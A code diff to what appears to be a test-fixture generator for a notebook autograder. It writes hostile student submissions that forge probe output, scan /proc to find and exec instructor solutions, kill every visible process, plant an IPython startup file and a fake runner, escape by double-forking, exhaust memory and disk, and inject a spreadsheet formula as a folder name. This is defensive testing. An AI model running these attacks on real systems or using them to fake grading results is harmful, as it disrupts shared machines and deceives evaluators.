@@ -82,10 +82,22 @@ def student(released, replace: dict[int, str] | None = None, insert: dict[int, l
     return nb
 
 
+def _stable_ids(nb, prefix: str):
+    """Cell ids from the position, so regenerating changes only what changed."""
+    for i, cell in enumerate(nb.cells):
+        cell.id = f"{prefix}-{i}"[:64]
+    return nb
+
+
+def _write(nb, path: Path) -> None:
+    stem = "".join(c if c.isalnum() or c in "-_" else "_" for c in path.parent.name + "-" + path.stem)
+    nbformat.write(_stable_ids(nb, stem), path)
+
+
 def main() -> None:
     src = source_notebook()
     (HERE / "source").mkdir(exist_ok=True)
-    nbformat.write(src, HERE / "source" / "tiny.ipynb")
+    _write(src, HERE / "source" / "tiny.ipynb")
     rel = release_notebook(src, name="tiny.ipynb")
     # cell indices in the release: 3 fraction solution, 4 check, 6 iou, 7 check, 9 box, 10 check
     F, FC, I, IC, B, BC = 3, 4, 6, 7, 9, 10
@@ -160,13 +172,25 @@ while True:
 while True:
     chunks.append(np.ones(2**24))  # 128 MiB at a time, until something gives''']})
     subs["memory_mmap"] = student(rel, {F: body(FRACTION), I: body(IOU), B: body(BOX)}, insert={11: [
-        '''# shared mappings escape RLIMIT_DATA; the harness's watchdog must stop this one
+        '''# shared mappings escape RLIMIT_DATA; the harness's watchdog must stop this one.
+# It swallows the cell timeout's interrupt and, once over the limit, holds the
+# memory until it is killed: on a loaded machine the memory limit, not the
+# cell timeout or a watchdog that was slow to look, ends it. No race.
 import mmap
+import time
 import numpy as np
-m = mmap.mmap(-1, 16 << 30)
+m = mmap.mmap(-1, 4 << 30)
 pages = np.frombuffer(m, dtype=np.uint8)
-for start in range(0, len(pages), 256 << 20):   # touch one byte per page, 256 MiB at a time, at C speed
-    pages[start:start + (256 << 20):4096] = 1''']})
+start = 0
+while True:
+    try:
+        if start < len(pages):
+            pages[start:start + (256 << 20):4096] = 1   # touch one byte per page, 256 MiB at a time, at C speed
+            start += 256 << 20
+        else:
+            time.sleep(0.05)
+    except KeyboardInterrupt:
+        pass''']})
     subs["edited_checks"] = student(rel, {
         F: body(FRACTION),
         I: "def my_iou(pred, truth):\n    return 0.5",
@@ -183,11 +207,153 @@ for start in range(0, len(pages), 256 << 20):   # touch one byte per page, 256 M
         B: body(BOX),
     })
     subs["renamed"].cells[I].metadata["segtutor"] = {"exercise": "iou_v2", "function": "my_iou_v2"}
+    subs.update(issue7_attacks(rel, F, I, B))
     out = HERE / "students"
     out.mkdir(exist_ok=True)
     for name, nb in subs.items():
-        nbformat.write(nb, out / f"{name}.ipynb")
+        _write(nb, out / f"{name}.ipynb")
     (out / "not_json.ipynb").write_text('{"cells": [ this is not JSON\n')
+    # Folder layout (attack class 6): mallory's folder holds her own (blank)
+    # notebook plus copies that try to claim honest_full's and untouched's rows.
+    mallory = out / "mallory"
+    (mallory / "honest_full").mkdir(parents=True, exist_ok=True)
+    _write(student(rel), mallory / "tiny.ipynb")
+    _write(student(rel), mallory / "honest_full" / "tiny.ipynb")
+    _write(student(rel, {F: body(FRACTION), I: body(IOU), B: body(BOX)}), mallory / "untouched.ipynb")
+    # A student folder whose name is a spreadsheet formula.
+    formula = out / "=HYPERLINK(1)"
+    formula.mkdir(exist_ok=True)
+    _write(student(rel, {F: body(FRACTION)}), formula / "tiny.ipynb")
+
+
+def issue7_attacks(rel, F, I, B) -> dict:
+    """Attacks of issue 7 that won against the unsandboxed grader (classes 1-5 and 7)."""
+    honest = {F: body(FRACTION), I: body(IOU), B: body(BOX)}
+    subs = {}
+    # 1. Forge the probe's output from inside the probe: find the nonce on the
+    # call stack and print an answer of one's own, then fail.
+    subs["forge_stack"] = student(rel, {I: '''import sys
+def my_iou(pred, truth):
+    frame = sys._getframe(1)
+    while frame is not None and "_nonce" not in frame.f_locals:
+        frame = frame.f_back
+    if frame is not None:
+        i = frame.f_locals.get("i", 0)
+        print(frame.f_locals["_nonce"], i, \'{"value": 1.0, "shape": [], "kind": "f"}\')
+    raise NotImplementedError'''})
+    # 1b. Rewrite the probe's error lines into answers on stdout: the grader
+    # sees what a function returning 1.0 would have printed.
+    subs["forge_stdout"] = student(rel, insert={2: ['''# attack: every "error" line the probes print becomes 1.0
+import sys, re
+class Rewrite:
+    def __init__(self, inner): self.inner = inner
+    def write(self, text):
+        return self.inner.write(re.sub(r'\\{"error": "[^\\n]*\\}', \'{"value": 1.0, "shape": [], "kind": "f"}\', text))
+    def flush(self): return self.inner.flush()
+    def __getattr__(self, name): return getattr(self.inner, name)
+sys.stdout = Rewrite(sys.stdout)''']})
+    # 1c + 3. Read the run notebook, the grader's command line and any source
+    # notebook with solutions; exec the solution cells found.
+    subs["read_solutions"] = student(rel, {F: "# (nothing here)", I: "# (nothing here)", B: "# (nothing here)"}, insert={2: ['''# attack: look for the probes' notebook and the instructor's solutions
+import glob, json, os
+found = []
+roots = []
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        for name in ("cwd",):
+            try:
+                roots.append(os.readlink(f"/proc/{pid}/{name}"))
+            except OSError:
+                pass
+        try:
+            found.append(open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace"))
+        except OSError:
+            pass
+roots += [os.getcwd(), "/submission", "/tmp", "/work", "/home", "/opt", "/srv", os.path.expanduser("~")]
+seen = 0
+for root in roots:
+    for folder, dirs, files in os.walk(root):
+        dirs[:] = [d for d in dirs if d not in (".venv", "site-packages", "proc", "sys")]
+        seen += len(files)
+        if seen > 50000:
+            break
+        for f in files:
+            if f.endswith(".ipynb"):
+                try:
+                    nb = json.load(open(os.path.join(folder, f)))
+                except Exception:
+                    continue
+                for cell in nb.get("cells", []):
+                    src = "".join(cell.get("source", ""))
+                    if "### BEGIN SOLUTION" in src or "_segtutor_probe" in src:
+                        try:
+                            exec(src.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
+                        except Exception:
+                            pass''']}, drop=(F, I, B))
+    # 2. Hidden calls of the references and a forbidden library shortcut.
+    subs["hidden_reference"] = student(rel, {
+        F: '''import importlib
+def my_fraction_above(image, threshold):
+    return getattr(importlib.import_module("segtutor.arrays"), "fraction_above")(image, threshold)''',
+        I: '''import importlib
+def my_iou(pred, truth):
+    return importlib.import_module("segtu" + "tor.metrics").__dict__["iou"](pred, truth)''',
+        B: '''from skimage import measure as m
+def my_bounding_box(mask):
+    props = m.regionprops(np.asarray(mask).astype(int))
+    return props[0].bbox if props else (0, 0, 0, 0)''',
+    })
+    # 4. Attack the grader and the next students: signal every process in
+    # sight, plant an IPython startup file and a fake runner, then work honestly.
+    subs["attack_grader"] = student(rel, honest, insert={2: ['''# attack: stop or kill every other process, poison later kernels
+import os, signal
+me = os.getpid()
+for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
+    if pid != me:
+        for sig in (signal.SIGSTOP, signal.SIGKILL):
+            try:
+                os.kill(pid, sig)
+            except OSError:
+                pass
+startup = os.path.expanduser("~/.ipython/profile_default/startup")
+os.makedirs(startup, exist_ok=True)
+open(os.path.join(startup, "00-evil.py"), "w").write("my_fraction_above = my_iou = my_bounding_box = lambda *a: 0\\n")
+import segtutor, sys
+for folder in [os.getcwd(), os.path.dirname(os.path.dirname(segtutor.__file__))] + sys.path:
+    try:
+        os.makedirs(os.path.join(folder, "segtutor", "grading"), exist_ok=True)
+        open(os.path.join(folder, "segtutor", "grading", "runner.py"), "w").write("raise SystemExit(0)\\n")
+    except OSError:
+        pass''']})
+    # 5. Escape the kill: a double-forked, detached process that outlives the
+    # kernel and would attack later students.
+    subs["fork_escape"] = student(rel, honest, insert={2: ['''# attack: a detached grandchild that should outlive grading
+import os
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv("/bin/sh", ["/bin/sh", "-c", "exec -a segtutor-escape-marker sleep 600"])
+    os._exit(0)
+os.wait()''']})
+    # 7. Resources: flood stdout (a cell, and the probe: my_iou's first call
+    # prints 4 MB, past the probe's cap, so its answers are cut off), fill
+    # /tmp and HOME, then work honestly otherwise.
+    subs["flood"] = student(rel, {**honest, I: body(IOU).replace(
+        "def my_iou(pred, truth):\n",
+        "def my_iou(pred, truth):\n    global FLOODED\n    if not globals().get('FLOODED'):\n"
+        "        FLOODED = print('y' * (4 << 20)) or True\n")}, insert={2: ['''# attack: 64 MB of output and disk writes outside the run folder
+import os, sys
+chunk = "x" * (1 << 20)
+for _ in range(64):
+    sys.stdout.write(chunk)
+for folder in ("/tmp", os.path.expanduser("~")):
+    try:
+        with open(os.path.join(folder, "ballast"), "wb") as f:
+            for _ in range(300):
+                f.write(b"\\0" * (1 << 20))
+    except OSError:
+        pass''']})
+    return subs
 
 
 if __name__ == "__main__":
